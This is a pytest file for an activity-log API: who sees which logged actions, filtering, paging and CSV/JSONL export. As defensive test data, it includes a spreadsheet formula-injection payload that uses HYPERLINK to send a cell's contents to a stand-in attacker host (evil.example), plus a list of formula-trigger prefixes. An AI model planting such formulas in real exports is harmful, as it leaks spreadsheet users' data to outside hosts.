"""The owner sees and exports what happened in the business; each user what was done in their name."""

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi import FastAPI

from activities.records.activity_log import Entry, note
from api.reading import activity_export
from api.reading.activity_export import harmless
from models.identifiers import Prefix, new_id
from terms.activity import Actor
from tests.api.calling import Owner, all_seeing, problem, registered_owner, uploaded

FORMULA = '=HYPERLINK("https://evil.example?x="&A1)'


@pytest.fixture(scope="module")
async def owner(app: FastAPI) -> AsyncIterator[Owner]:
    """A business of these tests, to which nobody else adds anything."""
    owner = await registered_owner(app)
    yield owner
    await owner.aclose()


async def items(owner: Owner, **query: Any) -> list[dict[str, Any]]:
    answer = await owner.get("/v1/activity", params=query)
    answer.raise_for_status()
    found: list[dict[str, Any]] = answer.json()["items"]
    return found


async def test_the_owner_sees_the_business_and_nothing_of_another(owner: Owner, stranger: Owner) -> None:
    mine, theirs = await uploaded(owner), await uploaded(stranger)
    assert [entry["action"] for entry in await items(owner, object=mine["id"])] == ["api:documents:create"]
    assert await items(owner, object=theirs["id"]) == []
    (entry,) = await items(owner, object=mine["id"])
    assert entry["actor"]["kind"] == "user"
    assert entry["actor"]["name"] == owner.email
    assert (entry["status"], entry["problem"], entry["ip"]) == (201, None, owner.ip)
    assert entry["objects"] == [mine["id"]]


async def test_looking_at_the_log_is_in_the_log(owner: Owner) -> None:
    await items(owner)
    assert (await items(owner, limit=1))[0]["action"] == "api:activity:read"


@pytest.mark.rule("M7")
async def test_readings_are_left_out_of_acts_and_stay_in_the_file(app: FastAPI, owner: Owner) -> None:
    document = await uploaded(owner)
    await owner.get(f"/v1/documents/{document['id']}")
    about, reading = {"object": document["id"]}, "api:documents:read"
    assert [one["action"] for one in await items(owner, **about)] == [reading, "api:documents:create"]
    assert [one["action"] for one in await items(owner, **about, acts_only=True)] == ["api:documents:create"]
    kept = new_id(Prefix.DOCUMENT)
    async with all_seeing(app).transaction() as session:
        for action, status in ((reading, 403), ("api:exports.content:read", 206), (reading, 200)):
            entry = Entry(
                action, Actor.USER, None, business_id=owner.business_id, objects=[kept], status=status
            )
            await note(session, entry)
    shown = {(one["action"], one["status"]) for one in await items(owner, object=kept, acts_only=True)}
    assert shown == {(reading, 403), ("api:exports.content:read", 206)}
    mine = (await owner.get("/v1/me/activity", params={"acts_only": True, "limit": 200})).json()["items"]
    assert "api:documents:create" in {one["action"] for one in mine}
    assert reading not in {one["action"] for one in mine}
    whole = await owner.get("/v1/activity/export", params={"format": "jsonl"} | about)
    assert reading in whole.text


async def test_it_is_found_by_user_action_object_and_time(owner: Owner) -> None:
    document = await uploaded(owner)
    async with owner.program() as program:
        await program.get(f"/v1/documents/{document['id']}")
    by_key = await items(owner, action="api:documents:read", object=document["id"])
    assert [entry["actor"]["kind"] for entry in by_key] == ["api_key"]
    assert by_key[0]["actor"]["name"] == "tests"
    user = (await items(owner, action="api:documents:create", limit=1))[0]["actor"]["id"]
    assert await items(owner, user=user, object=document["id"]) != []
    assert await items(owner, user=new_id(Prefix.USER)) == []
    both = await items(owner, action=["api:documents:read", "api:documents:create"], object=document["id"])
    assert len(both) == 2
    later = datetime.now(UTC) + timedelta(hours=1)
    assert await items(owner, **{"from": later.isoformat()}) == []
    assert await items(owner, to=by_key[0]["at"], object=document["id"], action="api:documents:read") == []
    assert len(await items(owner, **{"from": by_key[0]["at"]}, object=document["id"])) == 1


async def test_pages_follow_each_other_without_gap(owner: Owner) -> None:
    document = await uploaded(owner)
    for _ in range(4):
        await owner.get(f"/v1/documents/{document['id']}")
    seen: list[str] = []
    query: dict[str, Any] = {"object": document["id"], "limit": 2}
    while True:
        page = (await owner.get("/v1/activity", params=query)).json()
        seen += [entry["id"] for entry in page["items"]]
        if page["next"] is None:
            break
        query["after"] = page["next"]
    assert len(seen) == len(set(seen)) == 5
    assert seen == sorted(seen, reverse=True)
    for wrong in ({"after": "x"}, {"user": "marta"}, {"action": "DROP"}, {"limit": 0}, {"from": "yesterday"}):
        assert problem(await owner.get("/v1/activity", params=wrong)) == "validation"


async def test_programs_do_not_read_the_log(owner: Owner) -> None:
    async with owner.program() as program:
        assert problem(await program.get("/v1/activity")) == "session-required"
        assert problem(await program.get("/v1/activity/export")) == "session-required"


async def test_the_export_holds_the_same_and_no_formula(
    app: FastAPI, owner: Owner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(activity_export, "_BATCH", 3)
    document = await uploaded(owner)
    for agent in (FORMULA, "+1", "  @x", "Ordinary, with a comma", "-2", "＝3"):
        await owner.get(f"/v1/documents/{document['id']}", headers={"user-agent": agent.encode()})
    listed = await items(owner, object=document["id"])
    query = {"object": document["id"], "format": "csv"}
    answer = await owner.get("/v1/activity/export", params=query)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["id"] for row in rows] == [entry["id"] for entry in listed]
    agents = [row["user_agent"] for row in rows]
    assert f"'{FORMULA}" in agents
    assert "Ordinary, with a comma" in agents
    assert all(harmless(agent) == agent for agent in agents)
    lines = await owner.get("/v1/activity/export", params=query | {"format": "jsonl"})
    assert [json.loads(line) for line in lines.text.splitlines()] == listed
    exports = await items(owner, action="api:activity.export:read")
    assert len(exports) >= 2


def test_cells_that_would_be_calculated_are_set_off() -> None:
    for formula in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "＝1", "  =1"):
        assert harmless(formula) == f"'{formula}"
    for plain in ("", "1", "a=b", "env_01", "2026-11-25"):
        assert harmless(plain) == plain


async def test_what_staff_did_in_a_business_shows_to_its_owner(
    app: FastAPI, owner: Owner, stranger: Owner
) -> None:
    document, member = new_id(Prefix.DOCUMENT), new_id(Prefix.USER)
    entry = Entry(
        "staff:documents:open",
        Actor.STAFF,
        member,
        roles=["reviewer"],
        business_id=owner.business_id,
        objects=[document],
    )
    async with all_seeing(app).transaction() as session:
        await note(session, entry)
    (shown,) = await items(owner, object=document)
    assert shown["actor"] == {"kind": "staff", "id": member, "name": None, "roles": ["reviewer"]}
    assert (shown["action"], shown["status"]) == ("staff:documents:open", None)
    assert await items(stranger, object=document) == []


async def test_a_user_sees_their_own_acts(owner: Owner, stranger: Owner) -> None:
    await owner.get("/v1/me")
    mine = (await owner.get("/v1/me/activity", params={"limit": 200})).json()["items"]
    theirs = (await stranger.get("/v1/me/activity", params={"limit": 200})).json()["items"]
    assert "api:me:read" in {entry["action"] for entry in mine}
    assert owner.ip in {entry["ip"] for entry in mine}
    assert stranger.ip not in {entry["ip"] for entry in mine}
    assert not {entry["id"] for entry in mine} & {entry["id"] for entry in theirs}
